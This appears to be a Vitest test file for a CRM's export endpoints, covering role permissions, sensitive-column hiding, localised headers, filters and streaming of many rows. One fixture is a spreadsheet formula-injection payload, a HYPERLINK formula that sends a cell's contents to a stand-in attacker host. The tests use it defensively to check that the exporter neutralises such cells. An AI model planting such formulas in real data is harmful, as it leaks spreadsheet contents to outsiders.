import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readZip, sheetCells } from '../../../../test/helpers/zip.ts';
import { expectError } from '../../../../test/helpers/api.ts';
import { createHarness, type Client, type Harness } from '../../../../test/helpers/harness.ts';

let h: Harness;
let admin: Client;
let alice: Client;
let bob: Client;

const EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")';

beforeAll(async () => {
  h = await createHarness();
  admin = await h.admin();
  const dept = await h.createDepartment('销售部');
  alice = (await h.createUser({ role: 'sales', departmentId: dept })).client;
  alice.language = 'zh-CN';
  bob = (await h.createUser({ role: 'sales', departmentId: dept })).client;
  for (const [client, body] of [
    [alice, { name: '杭州云帆科技有限公司', stage: 'intent', needs: '+86 138 0013 8000', sourceDetail: '-500' }],
    [alice, { name: EVIL, needs: '@SUM(1+1)' }],
    [bob, { name: '北京星河数据技术有限公司' }],
  ] as const) {
    const res = await client.post('/api/v1/customers', body);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }
  // Sensitive notes, written by someone who may.
  const yunfan = (await admin.get('/api/v1/customers?q=云帆&limit=1')).body.items[0];
  expect((await admin.patch(`/api/v1/customers/${yunfan.id}`, { version: yunfan.version, budgetNotes: '预算80万', decisionNotes: '总经理拍板' })).status).toBe(200);
});
afterAll(async () => {
  await h.close();
});

function xlsxRows(payload: Buffer): string[][] {
  const sheet = readZip(payload).get('xl/worksheets/sheet1.xml')?.toString('utf8') ?? '';
  return sheetCells(sheet).map((row) => row.map((c) => c.value));
}

/** RFC 4180 records of a CSV (our writer's output: BOM, CRLF, quotes doubled). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  const body = text.replace(/^\ufeff/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

describe('exports', () => {
  it('needs read and export permissions', async () => {
    expect((await h.client().get('/api/v1/customers/export')).status).toBe(401);
    // Salespeople may export customers but not leads or contacts (built-in roles).
    expectError(await alice.get('/api/v1/leads/export'), 403, 'FORBIDDEN');
    expectError(await alice.get('/api/v1/contacts/export'), 403, 'FORBIDDEN');
  });

  it('a salesperson’s export holds only their customers and no sensitive columns', async () => {
    const res = await alice.get('/api/v1/customers/export?format=xlsx&sort=name');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(String(res.headers['content-disposition'])).toContain("filename*=UTF-8''");
    const rows = xlsxRows(res.raw.rawPayload);
    const header = rows[0] ?? [];
    expect(header.slice(0, 3)).toEqual(['客户编号', '客户名称', '客户类型']);
    expect(header).not.toContain('预算说明');
    expect(header).not.toContain('决策说明');
    const names = rows.slice(1).map((r) => r[header.indexOf('客户名称')]);
    expect(names.sort()).toEqual([`'${EVIL}`, '杭州云帆科技有限公司'].sort());
    expect(JSON.stringify(rows)).not.toContain('预算80万');
  });

  it('an admin’s export has every customer and the sensitive columns; headers follow the language', async () => {
    admin.language = 'en';
    const res = await admin.get('/api/v1/customers/export?format=csv&sort=name');
    admin.language = 'zh-CN';
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const rows = csvRows(res.raw.rawPayload.toString('utf8'));
    const header = rows[0] ?? [];
    expect(header).toContain('Customer name');
    expect(header.slice(-2)).toEqual(['Budget notes', 'Decision notes']);
    expect(rows).toHaveLength(4);
    const yunfan = rows.find((r) => r.includes('杭州云帆科技有限公司')) ?? [];
    expect(yunfan.slice(-2)).toEqual(['预算80万', '总经理拍板']);
    expect(yunfan[header.indexOf('Stage')]).toBe('Intent');
  });

  it('neutralises formula injection in xlsx and CSV: = + - @ cells start with an apostrophe', async () => {
    const xlsx = xlsxRows((await alice.get('/api/v1/customers/export?format=xlsx')).raw.rawPayload);
    const csv = csvRows((await alice.get('/api/v1/customers/export?format=csv')).raw.rawPayload.toString('utf8'));
    for (const rows of [xlsx, csv]) {
      const header = rows[0] ?? [];
      const cells = rows.slice(1).flat();
      expect(cells).toContain(`'${EVIL}`);
      expect(cells).toContain("'@SUM(1+1)");
      expect(cells).toContain("'+86 138 0013 8000");
      expect(cells).toContain("'-500");
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@]/);
      expect(header.length).toBeGreaterThan(10);
    }
  });

  it('applies the list’s filters', async () => {
    const rows = xlsxRows((await admin.get(`/api/v1/customers/export?q=${encodeURIComponent('星河')}`)).raw.rawPayload);
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[1]).toBe('北京星河数据技术有限公司');
    expectError(await admin.get('/api/v1/customers/export?stage=nope'), 400, 'VALIDATION_FAILED');
  });

  it('exports contacts of the filtered customers and the lead list', async () => {
    const yunfan = (await admin.get('/api/v1/customers?q=云帆&limit=1')).body.items[0];
    expect((await admin.post(`/api/v1/customers/${yunfan.id}/contacts`, { name: '王经理', phones: ['13812345678'] })).status).toBe(201);
    const contacts = xlsxRows((await admin.get('/api/v1/contacts/export?stage=intent')).raw.rawPayload);
    expect(contacts).toHaveLength(2);
    expect(contacts[1]?.slice(0, 3)).toEqual([yunfan.number, '杭州云帆科技有限公司', '王经理']);
    expect((await admin.post('/api/v1/leads', { channel: 'trade_show', contactName: '周明', criteria: { needMatch: 'yes', budget: 'yes', authority: 'yes' } })).status).toBe(201);
    const leads = xlsxRows((await admin.get('/api/v1/leads/export?grade=A')).raw.rawPayload);
    expect(leads).toHaveLength(2);
    expect(leads[1]).toContain('周明');
    expect(leads[1]).toContain('展会');
  });
});

describe('export of many customers', () => {
  // Speed and memory at 100,000 rows are measured by `npm run bench` (docs/benchmarks.md); this
  // checks what those figures rely on: the rows come in keyset batches of 2,000, over a real
  // socket as they are written, with none lost or repeated where one batch ends and the next begins.
  it('streams every row once, across batch boundaries, in the list order', async () => {
    await h.database.pool.query(`
      insert into customers (id, number, kind, name, name_key, stage, owner_id, created_at, updated_at)
      select gen_random_uuid(), 'BULK-' || lpad(g::text, 5, '0'), 'company', '批量客户' || g || '有限公司', 'bulk' || g, 'potential',
             (select id from users where username = 'admin'),
             -- pairs of rows share a created_at, so batch boundaries fall inside ties the id must break
             now() - ((g / 2) || ' seconds')::interval, now()
      from generate_series(1, 5001) g`);
    const base = await h.app.listen({ port: 0, host: '127.0.0.1' });
    const body = await new Promise<{ text: string; chunks: number }>((resolve, reject) => {
      http
        .get(`${base}/api/v1/customers/export?format=csv`, { headers: { cookie: admin.cookie ?? '' } }, (res) => {
          expect(res.statusCode).toBe(200);
          const parts: Buffer[] = [];
          res.on('data', (chunk: Buffer) => parts.push(chunk));
          res.on('end', () => resolve({ text: Buffer.concat(parts).toString('utf8'), chunks: parts.length }));
          res.on('error', reject);
        })
        .on('error', reject);
    });
    const numbers = body.text.match(/BULK-\d{5}/g) ?? [];
    expect(numbers).toHaveLength(5001);
    expect(new Set(numbers).size).toBe(5001);
    // The same order as the list's (newest first, ties broken by id).
    const listed: string[] = [];
    let cursor: string | null = null;
    do {
      const page = await admin.get(`/api/v1/customers?limit=200${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      listed.push(...(page.body.items as { number: string }[]).map((c) => c.number).filter((n) => n.startsWith('BULK-')));
      cursor = page.body.nextCursor;
    } while (cursor);
    expect(numbers).toEqual(listed);
    expect(body.chunks).toBeGreaterThan(1);
  }, 60_000);
});
